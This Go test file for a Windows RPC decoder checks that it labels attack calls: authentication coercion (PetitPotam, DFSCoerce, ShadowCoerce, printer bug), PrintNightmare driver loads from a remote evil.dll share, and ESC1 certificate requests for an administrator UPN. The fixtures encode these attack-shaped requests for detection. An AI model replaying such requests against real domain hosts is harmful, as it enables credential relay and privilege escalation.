package rpcops

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/hex"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"
)

// Coercion (MS-EFSR, MS-DFSNM, MS-FSRVP, MS-EVEN), printing (MS-RPRN, MS-PAR) and
// certificate requests (MS-ICPR, MS-WCCE), each in both transfer
// syntaxes. The certificate requests inside are made by Go's crypto/x509,
// an encoder independent of the decoder.

func TestCoerceFixtures(t *testing.T) {
	coerce := func(op, file string) want {
		return want{op: op, target: file, technique: TechCoerce, phase: PhaseCredAccess,
			fields: map[string]string{"coerced to": "10.0.0.66"}}
	}
	runFixtures(t, []fixture{
		{name: "EfsRpcOpenFileRaw lsarpc", iface: efsrLsaUUID, opnum: 0,
			req:  func(s *sb) { s.wstr(`\\10.0.0.66\share\file.txt`).u32(0) },
			want: coerce("EfsRpcOpenFileRaw", `\\10.0.0.66\share\file.txt`)},
		{name: "EfsRpcEncryptFileSrv efsrpc", iface: efsrUUID, opnum: 4,
			req: func(s *sb) { s.wstr(`\\10.0.0.66@80/test\share\a.txt`) },
			want: want{op: "EfsRpcEncryptFileSrv", target: `\\10.0.0.66@80/test\share\a.txt`, technique: TechCoerce, phase: PhaseCredAccess,
				fields: map[string]string{"coerced to": "10.0.0.66", "webdav": "HTTP port 80"}}},
		{name: "EfsRpcAddUsersToFileEx", iface: efsrLsaUUID, opnum: 15,
			req:  func(s *sb) { s.u32(2).null().wstr(`\\10.0.0.66\x\y`).u32(0).null() },
			want: coerce("EfsRpcAddUsersToFileEx", `\\10.0.0.66\x\y`)},
		{name: "EfsRpcDuplicateEncryptionInfoFile", iface: efsrLsaUUID, opnum: 13,
			req:  func(s *sb) { s.wstr(`\\10.0.0.66\s\a`).wstr(`\\10.0.0.66\s\b`).u32(0).u32(0).null().u32(0) },
			want: coerce("EfsRpcDuplicateEncryptionInfoFile", `\\10.0.0.66\s\a`)},
		{name: "EfsRpcOpenFileRaw local", iface: efsrLsaUUID, opnum: 0,
			req: func(s *sb) { s.wstr(`C:\temp\x`).u32(0) },
			want: want{op: "EfsRpcOpenFileRaw", target: `C:\temp\x`, technique: TechCoerce, phase: PhaseCredAccess,
				fields: map[string]string{"file": `C:\temp\x`}}},
		{name: "NetrDfsRemoveStdRoot (DFSCoerce)", iface: dfsnmUUID, opnum: 13,
			req:  func(s *sb) { s.wstr("10.0.0.66").wstr("test").u32(1) },
			want: coerce("NetrDfsRemoveStdRoot", "10.0.0.66")},
		// Coercer's NetrDfsAddStdRoot: ServerName, RootShare, Comment,
		// ApiFlags.
		{name: "NetrDfsAddStdRoot (DFSCoerce)", iface: dfsnmUUID, opnum: 12,
			req:  func(s *sb) { s.wstr(`\\10.0.0.66`).wstr("test").wstr("comment").u32(0) },
			want: coerce("NetrDfsAddStdRoot", `\\10.0.0.66`)},
		{name: "IsPathShadowCopied (ShadowCoerce)", iface: fsrvpUUID, opnum: 9,
			req:  func(s *sb) { s.wstr(`\\10.0.0.66\share\`) },
			want: coerce("IsPathShadowCopied", `\\10.0.0.66\share\`)},
		// RpcRemoteFindFirstPrinterChangeNotification: printer handle,
		// flags, options, the unique callback machine, printer-local
		// value, and a unique buffer (empty).
		{name: "RpcRemoteFindFirstPrinterChangeNotification (printer bug)", iface: spoolssUUID, opnum: 62,
			req: func(s *sb) { s.handle(h(1)).u32(0x100).u32(0).wstrp(`\\10.0.0.66`).u32(0).u32(0).null() },
			want: want{op: "RpcRemoteFindFirstPrinterChangeNotification", target: `\\10.0.0.66`, technique: TechCoerce, phase: PhaseCredAccess,
				fields: map[string]string{"coerced to": "10.0.0.66", "callback": `\\10.0.0.66`}}},
		{name: "IsPathSupported (ShadowCoerce)", iface: fsrvpUUID, opnum: 8,
			req:  func(s *sb) { s.wstr(`\\10.0.0.66\share\`) },
			want: coerce("IsPathSupported", `\\10.0.0.66\share\`)},
		// MS-EVEN ElfrOpenBELW/A (CheeseOunce): UNCServerName (a unique
		// pointer to one character), the backup file name, major and
		// minor version.
		{name: "OpenBackupEventLogW NT UNC (Coercer)", iface: eventlogUUID, opnum: 9,
			req:  func(s *sb) { s.null().ustr(`\??\UNC\10.0.0.66\f2QnMwiI\aa`).u32(43).u32(41) },
			want: coerce("OpenBackupEventLogW", `\??\UNC\10.0.0.66\f2QnMwiI\aa`)},
		{name: "OpenBackupEventLogW UNC with server name", iface: eventlogUUID, opnum: 9,
			req:  func(s *sb) { s.ptr().u16('\\').ustr(`\\10.0.0.66\share\x.evt`).u32(1).u32(1) },
			want: coerce("OpenBackupEventLogW", `\\10.0.0.66\share\x.evt`)},
		{name: "OpenBackupEventLogW WebDAV", iface: eventlogUUID, opnum: 9,
			req: func(s *sb) { s.null().ustr(`\\attacker@8080\dav\x.evt`).u32(1).u32(1) },
			want: want{op: "OpenBackupEventLogW", target: `\\attacker@8080\dav\x.evt`, technique: TechCoerce, phase: PhaseCredAccess,
				fields: map[string]string{"coerced to": "attacker", "webdav": "HTTP port 8080"}}},
		{name: "OpenBackupEventLogA UNC", iface: eventlogUUID, opnum: 16,
			req:  func(s *sb) { s.null().rpcString(`\\10.0.0.66\share\x.evt`).u32(1).u32(1) },
			want: coerce("OpenBackupEventLogA", `\\10.0.0.66\share\x.evt`)},
		// A local backup log is what it always was: no technique, the
		// file named.
		{name: "OpenBackupEventLogW local", iface: eventlogUUID, opnum: 9,
			req: func(s *sb) { s.null().ustr(`C:\Windows\Temp\sec.evtx`).u32(1).u32(1) },
			want: want{op: "OpenBackupEventLogW", target: `C:\Windows\Temp\sec.evtx`,
				fields: map[string]string{"backup file": `C:\Windows\Temp\sec.evtx`}}},
		{name: "OpenBackupEventLogA NT local", iface: eventlogUUID, opnum: 16,
			req: func(s *sb) { s.null().rpcString(`\??\C:\sec.evt`).u32(1).u32(1) },
			want: want{op: "OpenBackupEventLogA", target: `\??\C:\sec.evt`,
				fields: map[string]string{"backup file": `\??\C:\sec.evt`}}},
		{name: "OpenEventLogW stays a log", iface: eventlogUUID, opnum: 7,
			req:  func(s *sb) { s.null().ustr("Security").ustr("").u32(1).u32(1) },
			want: want{op: "OpenEventLogW", target: "Security", fields: map[string]string{"log": "Security"}}},
	})
}

// rpcString writes an RPC_STRING (8-bit counted string, no NUL) with its
// deferred buffer.
func (s *sb) rpcString(v string) *sb {
	s.alignP().u16(uint16(len(v))).u16(uint16(len(v))).ptr()
	s.size(len(v)).size(0).size(len(v))
	s.b = append(s.b, v...)
	return s
}

// TestCoercedHost: the host and, for the WebDAV forms, the transport the
// redirector uses (DavGetHTTPFromUNCPath).
func TestCoercedHost(t *testing.T) {
	for _, c := range []struct{ in, host, webdav string }{
		{`\\10.0.0.66\share\f`, "10.0.0.66", ""},
		{`\\attacker@80/x\share`, "attacker", "HTTP port 80"},
		{`\\attacker@80\dav\file.txt`, "attacker", "HTTP port 80"},
		{`\\attacker@SSL@8443\dav`, "attacker", "HTTPS port 8443"},
		{`\\attacker@SSL\dav`, "attacker", "HTTPS port 443"},
		{`\\attacker@8080@SSL\dav`, "attacker", "HTTPS port 8080"},
		{`\\attacker@x\dav`, "attacker", ""},
		{`\\?\UNC\evil.corp@80\c$\x`, "evil.corp", "HTTP port 80"},
		{`\\?\UNC\evil.corp\c$\x`, "evil.corp", ""},
		{`\??\UNC\10.0.0.66\f2QnMwiI\aa`, "10.0.0.66", ""},
		{`\??\unc\evil.corp@SSL@443\dav\x`, "evil.corp", "HTTPS port 443"},
		{`\\.\UNC\evil.corp\c$\x`, "evil.corp", ""},
		{`\??\C:\Windows\x.evt`, "", ""},
		{`\\?\C:\Windows\x.evt`, "", ""},
		{`\\.\pipe\spoolss`, "", ""},
		{`//./C:/x`, "", ""},
		{`\\.host\share`, ".host", ""},
		{`\??\UNC`, "", ""},
		{`http://evil.corp/x`, "evil.corp", ""},
		{`C:\Windows\System32\x.dll`, "", ""},
		{`dc01`, "dc01", ""},
		{``, "", ""},
		{`share\file`, "", ""},
	} {
		if got := CoercedHost(c.in); got != c.host {
			t.Errorf("CoercedHost(%q) = %q, want %q", c.in, got, c.host)
		}
		if got := CoercedWebDAV(c.in); got != c.webdav {
			t.Errorf("CoercedWebDAV(%q) = %q, want %q", c.in, got, c.webdav)
		}
	}
}

// driverContainer2 writes a DRIVER_CONTAINER at level 2 (RPC_DRIVER_INFO_2:
// cVersion, then five unique strings deferred in order).
func driverContainer2(s *sb, name, env, driver, data, config string) {
	s.u32(2)
	if s.ndr64 {
		s.align(8)
	}
	s.u32(2).alignP().ptr()
	s.alignP().u32(3).alignP()
	for range 5 {
		s.ptr()
	}
	for _, v := range []string{name, env, driver, data, config} {
		s.wstr(v)
	}
}

func TestSpoolssFixtures(t *testing.T) {
	nightmare := func(s *sb) {
		s.wstrp(`\\10.0.0.2`)
		driverContainer2(s, "1234", "Windows x64", `C:\Windows\System32\DriverStore\FileRepository\ntprint.inf_amd64\Amd64\UNIDRV.DLL`,
			`\\10.0.0.66\share\evil.dll`, `C:\Windows\System32\kernelbase.dll`)
		s.u32(0x8014)
	}
	runFixtures(t, []fixture{
		{name: "RpcAddPrinterDriverEx PrintNightmare", iface: spoolssUUID, opnum: 89, req: nightmare,
			want: want{op: "RpcAddPrinterDriverEx", target: "1234", command: `\\10.0.0.66\share\evil.dll`, technique: "T1210", phase: PhaseExecution,
				fields: map[string]string{"copy flags": "APD_COPY_ALL_FILES|APD_COPY_FROM_DIRECTORY|APD_INSTALL_WARNED_DRIVER",
					"config file": `C:\Windows\System32\kernelbase.dll`, "environment": "Windows x64",
					"printnightmare": "driver file on a remote share (CVE-2021-1675 / CVE-2021-34527 pattern)"}}},
		{name: "RpcAsyncAddPrinterDriver (MS-PAR)", iface: parUUID, opnum: 39, req: nightmare,
			want: want{op: "RpcAsyncAddPrinterDriver", target: "1234", command: `\\10.0.0.66\share\evil.dll`, technique: "T1210", phase: PhaseExecution,
				fields: map[string]string{"printnightmare": "driver file on a remote share (CVE-2021-1675 / CVE-2021-34527 pattern)"}}},
		{name: "RpcEnumPrinterDrivers", iface: spoolssUUID, opnum: 10,
			req:  func(s *sb) { s.wstrp(`\\10.0.0.2`).wstrp("Windows x64").u32(2).null().u32(0) },
			want: want{op: "RpcEnumPrinterDrivers", target: `\\10.0.0.2`, technique: "T1082", phase: PhaseRecon, fields: map[string]string{"level": "2"}}},
	})
}

// TestPrinterBug: RpcOpenPrinter names the printer on the handle, and
// RpcRemoteFindFirstPrinterChangeNotificationEx on it names the host the
// spooler is made to call back.
func TestPrinterBug(t *testing.T) {
	for _, ndr64 := range []bool{false, true} {
		var sess Session
		open := newSB(ndr64)
		open.wstrp(`\\DC01`).null().u32(0).null().u32(0x20000)
		resp := newSB(ndr64)
		resp.handle(h(7)).status(0)
		d := sess.Decode(Call{Interface: spoolssUUID, Opnum: 1, Request: open.bytes(), Response: resp.bytes(), NDR64: ndr64})
		check(t, d, want{op: "RpcOpenPrinter", target: `\\DC01`, fields: map[string]string{"printer": `\\DC01`}})
		n := newSB(ndr64)
		n.handle(h(7)).u32(0x100).u32(0).wstrp(`\\attacker.corp`).u32(0).null()
		d = sess.Decode(Call{Interface: spoolssUUID, Opnum: 65, Request: n.bytes(), NDR64: ndr64})
		check(t, d, want{op: "RpcRemoteFindFirstPrinterChangeNotificationEx", target: `\\DC01 -> \\attacker.corp`,
			technique: TechCoerce, phase: PhaseCredAccess,
			fields: map[string]string{"coerced to": "attacker.corp", "printer": `\\DC01`, "callback": `\\attacker.corp`}})
	}
}

// csr makes a PKCS #10 request with crypto/x509: subject CN, a SAN with a
// UPN (otherName) and a DNS name, and the template name extension.
func csr(t *testing.T, cn, upn, template string) []byte {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	utf8, _ := asn1.MarshalWithParams(upn, "utf8")
	other, _ := asn1.Marshal(struct {
		ID    asn1.ObjectIdentifier
		Value asn1.RawValue
	}{asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 311, 20, 2, 3}, asn1.RawValue{Class: 2, Tag: 0, IsCompound: true, Bytes: utf8}})
	other[0] = 0xa0 // [0] IMPLICIT otherName
	dns, _ := asn1.Marshal(asn1.RawValue{Class: 2, Tag: 2, Bytes: []byte("dc01.corp.local")})
	san, _ := asn1.Marshal(asn1.RawValue{Class: 0, Tag: 16, IsCompound: true, Bytes: append(other, dns...)})
	u := utf16.Encode([]rune(template))
	bmp := make([]byte, 0, 2*len(u))
	for _, c := range u {
		bmp = append(bmp, byte(c>>8), byte(c))
	}
	tmpl, _ := asn1.Marshal(asn1.RawValue{Tag: 30, Bytes: bmp})
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{
		Subject: pkix.Name{CommonName: cn},
		ExtraExtensions: []pkix.Extension{
			{Id: asn1.ObjectIdentifier{2, 5, 29, 17}, Value: san},
			{Id: asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 311, 20, 2}, Value: tmpl},
		},
	}, key)
	if err != nil {
		t.Fatal(err)
	}
	return der
}

func utf16le(s string) []byte {
	var b []byte
	for _, c := range utf16.Encode([]rune(s)) {
		b = append(b, byte(c), byte(c>>8))
	}
	return b
}

func TestCertRequestFixtures(t *testing.T) {
	req := csr(t, "alice", "administrator@corp.local", "ESC1Template")
	attrs := utf16le("CertificateTemplate:ESC1Template\nSAN:upn=administrator@corp.local\n\x00")
	blob := func(s *sb, b []byte) {
		s.u32(uint32(len(b))).ptr()
	}
	body := func(s *sb, b []byte) { s.size(len(b)).raw(b) }
	icpr := func(s *sb) {
		s.u32(0).wstrp("corp-CA").u32(0)
		s.alignP()
		blob(s, attrs)
		body(s, attrs)
		s.alignP()
		blob(s, req)
		body(s, req)
	}
	resp := func(s *sb) { s.u32(17).u32(3).u32(0).null().u32(0).null().u32(0).null().status(0) }
	w := want{op: "CertServerRequest", target: "corp-CA: ESC1Template", command: "SAN upn:administrator@corp.local, dns:dc01.corp.local",
		technique: TechCert, phase: PhaseCredAccess,
		fields: map[string]string{"template": "ESC1Template", "subject": "CN=alice", "disposition": "issued", "request id": "17"}}
	runFixtures(t, []fixture{
		{name: "CertServerRequest ESC1", iface: icprUUID, opnum: 0, req: icpr, resp: resp, want: w},
	})
	// The same request through DCOM (MS-WCCE), whose attributes are a
	// unique string, not a blob, and whose Request2 puts the CA first.
	text := "CertificateTemplate:ESC1Template\nSAN:upn=administrator@corp.local\n"
	w.op = "Request"
	w2 := w
	w2.op = "Request2"
	w2.fields = map[string]string{"template": "ESC1Template", "subject": "CN=alice", "serial": "6100000002a3", "flags": "0x00000100"}
	runFixtures(t, []fixture{
		{name: "ICertRequestD Request", iface: certReqUUID, opnum: 3,
			req: func(s *sb) {
				s.orpcThis().u32(0).wstrp("corp-CA").u32(0).wstrp(text)
				s.alignP()
				blob(s, req)
				body(s, req)
			},
			resp: func(s *sb) { s.orpcThat(); resp(s) }, want: w},
		{name: "ICertRequestD2 Request2", iface: certReq2UUID, opnum: 6,
			req: func(s *sb) {
				s.orpcThis().wstrp("corp-CA").u32(0x100).wstrp("6100000002a3").u32(0).wstrp(text)
				s.alignP()
				blob(s, req)
				body(s, req)
			},
			resp: func(s *sb) { s.orpcThat(); resp(s) }, want: w2},
	})
}

func TestParseCertRequest(t *testing.T) {
	c := ParseCertRequest(csr(t, "bob", "da@corp.local", "User"))
	if c.Subject != "CN=bob" || c.Template != "User" || strings.Join(c.SANs, ",") != "upn:da@corp.local,dns:dc01.corp.local" {
		t.Fatalf("%+v", c)
	}
	// Cut anywhere, it never panics and never invents names.
	full := csr(t, "bob", "da@corp.local", "User")
	for i := range full {
		c := ParseCertRequest(full[:i])
		for _, s := range c.SANs {
			if s != "upn:da@corp.local" && s != "dns:dc01.corp.local" {
				t.Fatalf("cut at %d: SAN %q", i, s)
			}
		}
	}
}

func FuzzParseCertRequest(f *testing.F) {
	f.Add([]byte{0x30, 0x03, 0x02, 0x01, 0x00})
	// The real tools' requests (Certipy 4 over ICPR, Certipy 5 over DCOM),
	// from the first DER SEQUENCE of long form in each decrypted stub.
	for _, name := range []string{"rpclab_certipy_req_decrypted", "rpclab_certipy5_req_dcom_decrypted"} {
		for _, c := range loadStubs(f, filepath.Join("testdata", "stubs", name+".jsonl")) {
			req, _ := hex.DecodeString(c.Req)
			if i := bytes.Index(req, []byte{0x30, 0x82}); i >= 0 {
				f.Add(req[i:])
			}
		}
	}
	f.Fuzz(func(t *testing.T, b []byte) { ParseCertRequest(b) })
}

func TestEven6Fixtures(t *testing.T) {
	runFixtures(t, []fixture{
		{name: "EvtRpcRegisterRemoteSubscription", iface: even6UUID, opnum: 0,
			req: func(s *sb) { s.wstrp("Security").wstr("*[System[EventID=4624]]").null().u32(1) },
			want: want{op: "EvtRpcRegisterRemoteSubscription", target: "Security", technique: "T1654", phase: PhaseRecon,
				fields: map[string]string{"query": "*[System[EventID=4624]]", "flags": "0x00000001"}}},
		{name: "EvtRpcOpenLogHandle", iface: even6UUID, opnum: 17,
			req:  func(s *sb) { s.wstr("Microsoft-Windows-Sysmon/Operational").u32(1) },
			want: want{op: "EvtRpcOpenLogHandle", target: "Microsoft-Windows-Sysmon/Operational", technique: "T1654", phase: PhaseRecon}},
		{name: "EvtRpcRetractConfig", iface: even6UUID, opnum: 16,
			req:  func(s *sb) { s.wstr("Microsoft-Windows-Sysmon").u32(0) },
			want: want{op: "EvtRpcRetractConfig", target: "Microsoft-Windows-Sysmon", technique: "T1562.002", phase: PhaseEvasion}},
	})
}
